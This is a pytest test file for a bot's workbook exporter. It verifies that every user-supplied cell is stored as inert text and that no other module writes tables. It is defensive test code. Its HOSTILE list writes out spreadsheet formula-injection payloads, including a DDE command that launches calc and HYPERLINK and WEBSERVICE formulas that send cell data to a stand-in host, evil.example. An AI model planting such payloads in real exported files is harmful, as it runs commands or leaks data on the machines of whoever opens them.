"""What is written can be read again, and nothing in it is carried out."""

import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.files.workbook import Page, book, harmless, workbook

ROOT = Path(__file__).parents[2]
HOSTILE = [
    *("=1+1", "+86", "-张三", "@SUM(A1)", "\t=1", " =1", "\u3000=cmd", "\x00=1", "\r\n=1", "\v=1"),
    *("=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"看")', '=WEBSERVICE("https://evil.example")'),
    *("\ufeff=1", "\u200b=1", "\u202e=1", "\u2060@a", "＝1+1", "＋1", "－1", "＠SUM(A1)", "#REF!", "#N/A"),
]


def read(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_rows_come_back_as_they_were() -> None:
    data = workbook("昵称报告：项目A/工作群", ["姓名", "现在的昵称"], [["张三", "生产部-三哥💥"], ["刘洋", "0086"]])
    assert read(data) == [["姓名", "现在的昵称"], ["张三", "生产部-三哥💥"], ["刘洋", "0086"]]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_text(cell: str) -> None:
    assert harmless(cell).startswith("'")


def test_every_cell_of_every_sheet_is_text() -> None:
    """Wherever it stands: above the header, in it, in the rows; the title of a sheet is nothing to carry out."""
    pages = [Page(title, HOSTILE, [HOSTILE, HOSTILE[::-1]], above=HOSTILE) for title in ("=1+1", "表")]
    for sheet in load_workbook(io.BytesIO(book(pages))).worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert len(cells) == len(HOSTILE) * 4
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(str(cell.value).startswith("'") for cell in cells)


def test_nothing_else_writes_a_table() -> None:
    """Every list that anybody is handed comes out of `workbook`, where what people wrote is made text."""
    writers = re.compile(r"openpyxl(?!_)|xlsxwriter|csv\.(?:writer|DictWriter)|\bto_excel\b|spreadsheetml")
    found = {
        file.relative_to(ROOT).as_posix()
        for folder in ("bot", "commands", "scheduler")
        for file in (ROOT / folder).rglob("*.py")
        if writers.search(file.read_text(encoding="utf-8"))
    }
    assert found == {"bot/files/workbook.py", "bot/files/table.py"}  # which reads


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
@settings(max_examples=50, deadline=None)
def test_any_text_can_be_written(cells: list[str]) -> None:
    data = workbook("表", ["a"] * len(cells), [cells])
    assert not any(str(cell).lstrip()[:1] in ("=", "+", "-", "@") for cell in read(data)[1] if cell)
